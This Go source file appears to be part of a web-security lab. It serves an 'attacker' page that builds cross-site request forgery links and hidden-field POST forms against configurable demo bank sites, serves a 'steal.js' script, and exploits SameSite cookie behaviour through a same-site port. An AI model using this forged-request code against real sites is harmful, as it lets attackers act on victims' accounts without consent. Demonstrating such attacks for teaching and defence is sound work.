package attacker

import (
	"fmt"
	"html/template"
	"net/http"
)

// A Victim is a site that the attacker's page aims at.
type Victim struct{ Name, URL string }

// Page returns the site of the attacker: a page with the attacks on each victim, and the
// script that one of them loads. It is at origin, and at another host name, near, that is
// the victims' own: from there it is another port of the same site.
func Page(origin, near string, victims ...Victim) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("GET /steal.js", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprint(w, stolen)
	})
	mux.HandleFunc("GET /{$}", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		data := struct {
			Origin, Near string
			Victims      []Victim
			Attacks      []Attack
		}{origin, near, victims, Attacks(origin)}
		if err := page.Execute(w, data); err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
		}
	})
	return mux
}

// What eve does at the bank itself is text to type there: sent by this page, it would be
// refused for where it comes from, whatever it says.
var page = template.Must(template.New("page").Parse(`<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Attacker</title></head><body><main><h1>Attacker</h1>
<p>Log in at a bank as ada first. A browser may keep a cookie that does not say SameSite from
the forms of other sites when it is older than two minutes: then log in again.</p>
<p>At <a href="{{.Origin}}/">{{.Origin}}</a> this page is another site than the banks, at
<a href="{{.Near}}/">{{.Near}}</a> only another port of theirs.</p>
{{range $victim := .Victims}}<h2>{{.Name}}: <a href="{{.URL}}/">{{.URL}}</a></h2>
<ul>{{range $.Attacks}}{{if eq .From "same-site"}}{{else}}<li>
{{if eq .Method "GET"}}<a href="{{.Link $victim.URL}}">{{.Scenario}}: {{.Name}}</a>
{{else if eq .From "cross-site"}}<form method="post" action="{{$victim.URL}}{{.Path}}">{{range $name, $values := .Fields}}{{range $values}}<input type="hidden" name="{{$name}}" value="{{.}}">{{end}}{{end}}<button>{{.Scenario}}: {{.Name}}</button></form>
{{else}}{{.Scenario}}: {{.Name}}: type at the bank{{range $name, $values := .Fields}}{{range $values}}, {{$name}} <code>{{.}}</code>{{end}}{{end}}
{{end}}</li>{{end}}{{end}}</ul>
{{end}}<p><a href="/live/">Flood them, and watch what crosses the wire</a></p></main></body></html>
`))
